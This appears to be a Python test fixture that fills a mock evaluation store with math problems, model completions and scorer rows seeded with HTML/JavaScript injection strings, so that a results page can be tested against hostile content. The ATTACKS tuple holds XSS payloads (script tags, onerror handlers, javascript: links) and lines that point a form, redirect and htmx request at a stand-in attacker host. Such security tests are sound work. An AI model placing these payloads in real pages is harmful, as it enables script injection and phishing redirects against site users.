"""A store like the lab's for the tests of the view: two scorers, 30 problems, texts that attack the page."""

from __future__ import annotations

import random
from collections import Counter
from pathlib import Path
from typing import Any

from fabricated import Fabricated

from micota.recipe import recipe as recipes
from micota.recipe.recipe import Recipe
from micota.specs import Problems, Select, Verify
from micota.stages.select import decisions
from micota.store.artifacts import Result, Store
from micota.store.records import write_rows

ATTACKS = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 2'><svg onload='window.hit = 3'>",
    "\"><a href='javascript:window.hit = 4'>click</a><style>body{display:none}</style>",
    "<div hx-get='http://evil.example/' hx-trigger='load' hx-on:click='window.hit = 5'>x</div>{{ 7 * 7 }}",
    "<iframe srcdoc='<script>parent.hit = 6</script>'></iframe><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "</pre></details><form action='http://evil.example'><button>Next</button></form>\u202egnp.\x00\x1b[31m",
)


class Answered(Fabricated):
    """Fills a store with responses of which some are cut, some repeat, and the scorers disagree on some."""

    def _asked(self, spec: Problems) -> list[dict[str, Any]]:
        return [
            {**row, "level": f"Level {i % 3}", "subject": ATTACKS[0] if i % 2 else "Algebra"}
            for i, row in enumerate(super()._asked(spec))
        ]

    def make_verify(self, spec: Verify, dice: random.Random) -> Result:
        result = super().make_verify(spec, dice)
        rows = [
            {
                **row,
                "truncated": i % 7 == 0,
                "looped": i % 5 == 0,
                "answer": ATTACKS[1] if i % 4 else "7",
                "reason": ATTACKS[i % 6],
            }
            for i, row in enumerate(self._rows_below(spec))
        ]
        write_rows(self.store.work(spec) / "out" / "rows.jsonl", rows)
        return result

    def make_select(self, spec: Select, dice: random.Random) -> Result:
        answers, made = self._rows(spec.completions), super().make_select(spec, dice)
        if not self._rows(spec.verdicts):
            return made
        decided = list(decisions(spec, answers, self._rows(spec.verdicts)))
        kept = [{k: row[k] for k in ("key", "sample", "sha")} for row, reason in decided if reason is None]
        dropped = Counter(reason for _, reason in decided if reason)
        self._write(spec, kept)
        return Result({**made.facts, "kept": len(kept), "dropped": dict(dropped)}, made.pools)

    def _rows_below(self, spec: Verify) -> list[dict[str, Any]]:
        from micota.store.records import read_rows

        return read_rows(self.store.work(spec) / "out" / "rows.jsonl")


TEXTS = [
    "<think>\nHmm, wait. 3 + 4 is 7.\n</think>\nThe answer is \\boxed{7}.",
    "Let me recheck: it is 8. Zebra.",
    *(f"<think>\n{attack} wait\n</think>\n{attack} \\boxed{{7}}" for attack in ATTACKS),
]


def view_world(folder: Path, without: tuple[str, ...] = ()) -> tuple[Recipe, Store]:
    """The recipe lab-mini with a store that has everything of it but some kinds."""
    recipe, store = recipes.load("lab-mini"), Store(folder / "store")
    problems = [f"What is {i} + {i}? {ATTACKS[i % 6] if i % 3 == 0 else ''}" for i in range(30)]
    Answered(store, problems, TEXTS).fill(recipe, without)
    for name, spec in recipe.names.items():
        store.name(recipe.name, name, spec)
    return recipe, Store(folder / "store")
